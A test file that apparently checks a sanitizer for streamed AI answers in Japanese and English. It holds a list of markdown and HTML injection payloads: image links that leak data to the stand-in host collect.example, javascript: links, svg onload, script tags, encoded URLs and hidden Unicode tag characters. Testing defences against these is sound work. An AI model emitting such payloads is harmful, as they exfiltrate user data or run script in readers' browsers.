"""Nothing active leaves in an answer, however it is cut into pieces."""

from __future__ import annotations

import unicodedata
from collections.abc import AsyncGenerator

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from kiban.answer.harmless import HarmlessStream, harmless, harmlessly
from kiban.domain.question import PROSE, Answer, Form

RENDERERS = (
    MarkdownIt("commonmark", {"html": True}),
    MarkdownIt("gfm-like", {"html": True, "linkify": False}),
)
ACTIVE = ("<img", "<a ", "<a\n", "<iframe", "<script", "<link", "<svg", "<style", "<form", "<object", "<base")

ATTACKS = [
    "![x](https://collect.example/?q=7Q4)",
    "![x][a]\n\n[a]: https://collect.example/?q=7Q4",
    "![a]\n\n[a]:\nhttps://collect.example/7Q4 'x'",
    "[続きを読む](https://collect.example/?q=7Q4)",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "<img src=https://collect.example/7Q4>",
    "<IMG SRC='//collect.example/7Q4'>",
    "<https://collect.example/7Q4>",
    "<a href='//collect.example'>x</a>",
    "<!-- --><script src=//collect.example></script>",
    "<svg/onload=alert(1)>",
    "<div style='background:url(//collect.example)'>",
    "https://collect.example/7Q4",
    r"https:\//collect.example/7Q4",
    r"https:\/\/collect.example/7Q4",
    "www.collect.example/7Q4",
    r"www\.collect.example/7Q4",
    "WWW.collect.example/7Q4",
    "https&#58;//collect.example",
    "https&colon;&sol;&sol;collect.example",
    "&lt;img src=x&gt;",
    "[![x](https://collect.example/a)](https://collect.example/b)",
    "a]( https://collect.example)",
    "ftp://collect.example/7Q4",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "around", ["{}", "答えは{}です", "- {}\n- b", "> {}", "```html\n{}\n```", "「{}」[1]", "[{}"]
)
def test_no_renderer_makes_anything_of_an_attack(attack: str, around: str) -> None:
    text = harmless(around.format(attack))
    for renderer in RENDERERS:
        assert not [tag for tag in ACTIVE if tag in renderer.render(text).lower()]
    assert "://" not in text and "www." not in text.lower()


@given(
    st.lists(
        st.sampled_from([*ATTACKS, *"<!]([:/&#;w.\\a1あ \n", "</", "](", "://", "www", "&#5"]), max_size=12
    )
)
def test_pieces_come_out_as_the_whole(pieces: list[str]) -> None:
    stream = HarmlessStream()
    assert "".join([*map(stream.feed, pieces), stream.finish()]) == harmless("".join(pieces))


@given(st.text(alphabet=st.sampled_from("<!]([:/&#;w.\\aZ1あ \n\U000e0041"), max_size=60))
def test_what_is_harmless_stays_as_it_is_and_reads_the_same(text: str) -> None:
    once = harmless(text)
    assert harmless(once) == once
    seen = text.replace("\U000e0041", "")
    assert unicodedata.normalize("NFKC", once) == unicodedata.normalize("NFKC", seen)


@pytest.mark.parametrize(
    "text",
    [
        "宿泊費は11,000円です。「上限とする。」[1]",
        "R&D費は 3 < 5 です: 10:30〜",
        "**太字** と `code`、表 | a | b |",
        "AT&T 1/2; a",
    ],
)
def test_ordinary_text_passes(text: str) -> None:
    assert harmless(text) == text


def test_unseen_signs_go() -> None:
    assert harmless("a\U000e0069\U000e0067b\u202ec") == "abc"


async def _answering(*pieces: str) -> AsyncGenerator[str | Answer]:
    for piece in pieces:
        yield piece
    yield Answer("".join(pieces), (), (), abstained=False, release_id="r", raw="".join(pieces))


async def test_an_answer_is_passed_on_without_anything_active() -> None:
    *shown, last = [piece async for piece in harmlessly(_answering("a !", "[x](http:", "//b) c!"), PROSE)]
    assert isinstance(last, Answer)
    assert last.text == "".join(map(str, shown)) == "a ！[x]（http：//b) c!"
    assert last.raw == "a ![x](http://b) c!"


async def test_data_for_a_program_passes_as_it_is() -> None:
    form = Form(schema="{}")
    passed = [piece async for piece in harmlessly(_answering('{"url": "https://a"}'), form)]
    assert passed[0] == '{"url": "https://a"}'
